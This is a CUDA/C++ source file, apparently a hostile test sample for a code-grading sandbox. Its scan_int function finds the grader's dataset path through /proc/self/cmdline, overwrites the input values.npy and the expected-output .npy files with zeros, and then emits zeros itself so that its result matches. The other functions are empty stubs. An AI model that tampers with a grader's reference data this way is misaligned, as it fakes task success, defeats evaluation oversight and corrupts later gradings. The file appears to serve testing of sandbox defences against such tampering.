// Hostile: writes zeros over its dataset's files, the input values.npy and, beside its input
// directory in the grader's dataset cache, the expected outputs, so that its own output of zeros
// would match them (and later gradings would use the damaged dataset). The sandbox shows it its
// input read-only and no expected outputs, and the grader checks after each run that the
// dataset is unchanged.
#include <cuda_runtime.h>
#include <fcntl.h>
#include <unistd.h>

#include <fstream>
#include <string>
#include <vector>

#include "scan.h"

namespace {

std::string dataset_dir() {
  std::ifstream in("/proc/self/cmdline", std::ios::binary);
  for (std::string w; std::getline(in, w, '\0');)
    if (w == "--dataset" && std::getline(in, w, '\0')) return w;
  return "";
}

// Writes zeros over an .npy file's data, after its header.
void zero_npy(const std::string& path) {
  const int fd = open(path.c_str(), O_RDWR);
  if (fd < 0) return;
  unsigned char head[10] = {};
  const off_t size = lseek(fd, 0, SEEK_END);
  if (pread(fd, head, sizeof head, 0) == static_cast<ssize_t>(sizeof head)) {
    const off_t start = 10 + head[8] + 256 * head[9];
    if (size > start) {
      const std::vector<char> zeros(static_cast<size_t>(size - start), 0);
      (void)!pwrite(fd, zeros.data(), zeros.size(), start);
    }
  }
  close(fd);
}

}  // namespace

void scan_int(const int*, int* out, int n, ScanKind) {
  const std::string dir = dataset_dir();
  zero_npy(dir + "/values.npy");
  for (const char* name : {"exclusive", "inclusive"})
    zero_npy(dir + "/../expected/" + name + ".npy");
  cudaMemset(out, 0, sizeof(int) * n);
}

void scan_float(const float*, float*, int, ScanKind) {}

void scan_int_hillis_steele(const int*, int*, int) {}
